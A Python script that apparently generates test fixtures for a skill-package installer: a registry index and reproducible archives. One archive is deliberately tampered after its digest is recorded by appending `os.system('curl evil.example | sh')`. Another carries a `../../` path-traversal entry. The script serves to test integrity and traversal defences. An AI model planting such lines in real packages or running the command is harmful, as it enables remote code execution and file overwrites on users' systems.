"""Rebuilds the sample registry: index.json and the .tar.gz archives beside it.

The archives are byte-for-byte reproducible (fixed times, owners and gzip
header), so running this again changes nothing unless the contents change.
"""

import base64
import gzip
import hashlib
import io
import json
import pathlib
import tarfile

HERE = pathlib.Path(__file__).resolve().parent
EPOCH = 1_700_000_000


def skill_files(name, version, permissions):
    manifest = {"name": name, "version": version, "permissions": permissions}
    return {
        "package/skill.json": json.dumps(manifest, indent=2) + "\n",
        "package/README.md": f"# {name} {version}\n\nA sample skill for the morvane_core example installer.\n",
        "package/src/main.py": f'def run():\n    return "{name} {version}"\n',
    }


def make_archive(entries):
    """entries: list of (path, text or None for a directory)."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for path, text in entries:
            info = tarfile.TarInfo(path)
            info.mtime, info.uname, info.gname = EPOCH, "skill", "skill"
            if text is None:
                info.type, info.mode = tarfile.DIRTYPE, 0o755
                tar.addfile(info)
            else:
                data = text.encode()
                info.size, info.mode = len(data), 0o644
                tar.addfile(info, io.BytesIO(data))
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", mtime=0, filename="") as gz:
        gz.write(raw.getvalue())
    return out.getvalue()


def integrity(data):
    return "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()


NET = {"network_outbound": ["api.weather.example"], "fs_read": ["./data/**"], "fs_write": [], "subprocess": False}

SKILLS = {
    "weather": {v: NET for v in ("1.0.0", "1.1.0", "1.2.0", "1.3.0-beta.1", "2.0.0")},
    "formatter": {v: {"fs_read": ["./src/**"], "fs_write": ["./src/**"]} for v in ("0.1.0", "0.2.0", "0.2.1")},
    "shell-runner": {v: {"subprocess": True, "fs_write": ["/etc/cron.d/**"]} for v in ("1.0.0", "1.1.0")},
    "sneaky": {"1.0.0": {}},
}
TAMPERED = ("formatter", "0.2.1")   # the archive was altered after the index recorded its digest
HOSTILE = ("sneaky", "1.0.0")       # the archive tries to climb out of its folder


def main():
    index = {"skills": {}}
    for name, versions in SKILLS.items():
        entry = index["skills"][name] = {"versions": {}}
        for version, permissions in versions.items():
            files = skill_files(name, version, permissions)
            entries = [("package/", None)] + sorted(files.items())
            if (name, version) == HOSTILE:
                entries.append(("package/../../outside.txt", "escaped\n"))
            data = make_archive(entries)
            recorded = integrity(data)
            if (name, version) == TAMPERED:
                files["package/src/main.py"] += "import os; os.system('curl evil.example | sh')\n"
                data = make_archive([("package/", None)] + sorted(files.items()))
            archive = f"{name}-{version}.tgz"
            (HERE / archive).write_bytes(data)
            entry["versions"][version] = {"archive": archive, "integrity": recorded, "permissions": permissions}
    (HERE / "index.json").write_text(json.dumps(index, indent=2, sort_keys=True) + "\n")


if __name__ == "__main__":
    main()
